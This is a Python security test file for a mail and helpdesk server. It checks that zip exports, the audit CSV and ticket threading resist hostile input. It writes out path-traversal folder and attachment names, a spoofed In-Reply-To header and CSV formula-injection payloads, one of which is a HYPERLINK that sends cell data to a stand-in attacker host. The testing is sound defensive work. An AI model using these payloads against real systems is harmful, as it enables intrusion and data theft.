"""Nothing escapes its place: what a user or a stranger chose (a folder's name, a subject, an
attachment's name, an audit reason, a ticket number in In-Reply-To) cannot make the operator's zip
write outside the folder it is unpacked in, cannot run as a formula in the audit CSV, and cannot put
mail into a helpdesk ticket that is not the sender's."""

from __future__ import annotations

import csv
import imaplib
import io
import re
import smtplib
import time
import uuid
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

import httpx
import pyotp

from tests.cli.conftest import Cli
from tests.hostile.conftest import PASSWORD, Served, client_tls

DOMAIN = "cantho.gov.vn"


def _csrf(page: httpx.Response) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page.text)[1]


def _started_with_administrator(start: Callable[..., Served], tmp_path: Path, database_url: str):
    """A server whose first administrator has changed their password; (served, admin address)."""
    cli = Cli(tmp_path / "data", database_url)
    made = cli.init().json()
    served = start()
    changed = served.cli(
        "account",
        "change-password",
        made["administrator"],
        stdin=f"{made['temporary_password']}\n{PASSWORD}\n",
    )
    assert changed.code == 0, changed.err
    return served, made["administrator"]


def _portal(served: Served, address: str) -> httpx.Client:
    """An HTTP client signed in to the portal as `address`, its second factor enrolled and proved."""
    client = httpx.Client(base_url=served.http, follow_redirects=True, timeout=30)
    form = client.get("/dang-nhap")
    enrol = client.post(
        "/dang-nhap",
        data={"login": address, "password": PASSWORD, "csrf": _csrf(form), "next": "/quan-tri"},
    )
    secret = re.search(r'id="secret"[^>]*>([^<]+)<', enrol.text)[1].replace(" ", "")
    proved = client.post(
        "/quan-tri/xac-thuc",
        data={
            "code": pyotp.TOTP(secret).now(),
            "csrf": _csrf(enrol),
            "next": "/quan-tri",
            "password": PASSWORD,
        },
    )
    assert proved.status_code == 200 and proved.url.path == "/quan-tri", proved.text[:300]
    return client


def _imap(served: Served, local: str) -> imaplib.IMAP4_SSL:
    imap = imaplib.IMAP4_SSL("127.0.0.1", served.port("imaps"), ssl_context=client_tls(), timeout=30)
    imap.login(f"{local}@{DOMAIN}", PASSWORD)
    return imap


def _hostile_message(subject: str) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "ke-gian@example.org", f"x@{DOMAIN}", subject
    mail.set_content("Xem tệp đính kèm.\n")
    mail.add_attachment(b"MZ evil", maintype="application", subtype="octet-stream", filename="..\\..\\evil")
    return mail.as_bytes()


def test_zip_export_entry_names_stay_inside(start, tmp_path: Path, database_url: str) -> None:
    served, admin = _started_with_administrator(start, tmp_path, database_url)
    local = served.account()
    folders = ["../../../tmp/x", "C:\\Windows\\System32", "a/../../b", "CON", "Thu muc/Ho so"]
    with _imap(served, local) as imap:
        for name in folders:
            created = imap.create('"' + name.replace("\\", "\\\\") + '"')
            assert created[0] == "OK", (name, created)
        for name, subject in [
            ("../../../tmp/x", "../../../../etc/passwd"),
            ("../../../tmp/x", "/etc/shadow"),
            ("C:\\Windows\\System32", "C:\\evil.exe"),
            ("INBOX", "\u202egpj.exe \x07 bell"),
            ("INBOX", "x" * 500),
            ("Thu muc/Ho so", "Báo cáo"),
        ]:
            quoted = '"' + name.replace("\\", "\\\\") + '"'
            assert imap.append(quoted, None, None, _hostile_message(subject))[0] == "OK"
        imap.logout()

    portal = _portal(served, admin)
    page = portal.get(f"/quan-tri/hop-thu/{local}")
    exported = portal.post(f"/quan-tri/hop-thu/{local}/xuat.zip", data={"csrf": _csrf(page)})
    assert exported.status_code == 200, exported.text[:300]
    archive = zipfile.ZipFile(io.BytesIO(exported.content))
    names = archive.namelist()
    assert len(names) == 6 and len(set(n.lower() for n in names)) == 6
    for name in names:
        parts = name.split("/")
        assert not name.startswith("/") and ".." not in parts and "." not in parts, name
        assert "\\" not in name and ":" not in name, name
        assert all(ch.isprintable() and ch not in "\u202e\u202d" for ch in name), name
        assert all(part.strip(" .") == part and part for part in parts), name
        assert len(name) <= 300 and all(len(part) <= 100 for part in parts), name
        assert parts[0].upper() not in {"CON", "PRN", "AUX", "NUL"}, name
    # The folders' hierarchy is kept, under the archive's root.
    assert any(name.startswith("tmp/x/") for name in names), names
    assert any(name.startswith("Thu muc/Ho so/") for name in names), names
    target = tmp_path / "giai-nen"
    target.mkdir()
    archive.extractall(target)
    written = [p.resolve() for p in tmp_path.rglob("*") if p.is_file() and p.suffix == ".eml"]
    assert len(written) == 6 and all(p.is_relative_to(target.resolve()) for p in written)
    assert served.alive()


def _send_raw(served: Served, local: str, raw: str) -> None:
    with smtplib.SMTP_SSL("127.0.0.1", served.port("submissions"), context=client_tls(), timeout=30) as s:
        s.login(f"{local}@{DOMAIN}", PASSWORD)
        s.sendmail(f"{local}@{DOMAIN}", [f"hotro@{DOMAIN}"], raw.encode())


def _tickets(served: Served, token: str, count: int, messages: int = 1) -> list[dict]:
    """The helpdesk's tickets, once there are `count` and the first holds `messages` (or 20 s on)."""
    deadline = time.monotonic() + 20
    while True:
        found = httpx.get(
            served.http + "/api/v1/requests", headers={"Authorization": f"Bearer {token}"}, timeout=10
        ).json()
        tickets = sorted((r for r in found if r["kind"] == "feedback"), key=lambda r: r["id"])
        held = len(tickets[0]["details"].get("messages", [])) if tickets else 0
        if (len(tickets) >= count and held >= messages) or time.monotonic() > deadline:
            return tickets
        time.sleep(0.2)


def test_a_stranger_cannot_reply_into_someone_elses_ticket(start, tmp_path: Path, database_url: str) -> None:
    served, admin = _started_with_administrator(start, tmp_path, database_url)
    owner = served.account("Minh")
    stranger = served.account("Lan", "Trần", "Thị")
    made = served.cli("api-token", "create", "--name", "Kiểm thử", "--role", "operator", "--json")
    token = made.json()["token"]

    _send_raw(
        served,
        owner,
        f"From: {owner}@{DOMAIN}\r\nTo: hotro@{DOMAIN}\r\nSubject: Xin cấp lại mật khẩu\r\n"
        f"Message-ID: <mo.1@{DOMAIN}>\r\n\r\nTôi quên mật khẩu.\r\n",
    )
    (opened,) = _tickets(served, token, 1)
    assert opened["filed_by"] == f"{owner}@{DOMAIN}"
    # Any answer's Message-ID names the ticket (`smtp/helpdesk.answer_id`): a stranger can guess it.
    named = f"<1764637200.1.phieu-ho-tro-{opened['id']}@{DOMAIN}>"
    marker = f"CHEN-{uuid.uuid4().hex[:8]}"
    _send_raw(
        served,
        stranger,
        f"From: {stranger}@{DOMAIN}\r\nTo: hotro@{DOMAIN}\r\nSubject: Re: Xin cap lai {marker}\r\n"
        f"In-Reply-To: {named}\r\nMessage-ID: <la.1@{DOMAIN}>\r\n\r\nBấm vào liên kết này {marker}.\r\n",
    )
    first, second = _tickets(served, token, 2)
    assert first["id"] == opened["id"] and second["filed_by"] == f"{stranger}@{DOMAIN}"

    # The ticket's own correspondent joins it: no third ticket.
    _send_raw(
        served,
        owner,
        f"From: {owner}@{DOMAIN}\r\nTo: hotro@{DOMAIN}\r\nSubject: Re: Xin cấp lại mật khẩu\r\n"
        f"In-Reply-To: {named}\r\nMessage-ID: <mo.2@{DOMAIN}>\r\n\r\nCảm ơn.\r\n",
    )
    joined = _tickets(served, token, 2, messages=2)
    assert len(joined) == 2 and len(joined[0]["details"]["messages"]) == 2, joined
    portal = _portal(served, admin)
    page = portal.get(f"/quan-tri/yeu-cau/{opened['id']}").text
    assert marker not in page and page.count("<mo.") + page.count("Cảm ơn") >= 1
    assert marker in portal.get(f"/quan-tri/yeu-cau/{second['id']}").text
    assert served.alive()


def test_audit_csv_cells_are_never_formulas(start, tmp_path: Path, database_url: str) -> None:
    served, admin = _started_with_administrator(start, tmp_path, database_url)
    local = served.account()
    formula = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm")'
    for reason in (formula, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "lý do thường"):
        done = served.cli("account", "reset-password", local, "--reason", reason)
        assert done.code == 0, done.err
    portal = _portal(served, admin)
    exported = portal.get("/quan-tri/nhat-ky/xuat.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    reasons = [row[header.index("ly_do")] for row in body if row[header.index("ly_do")]]
    assert "'" + formula in reasons and formula not in reasons
    for cell in (cell for row in body for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "lý do thường" in reasons
    assert served.alive()
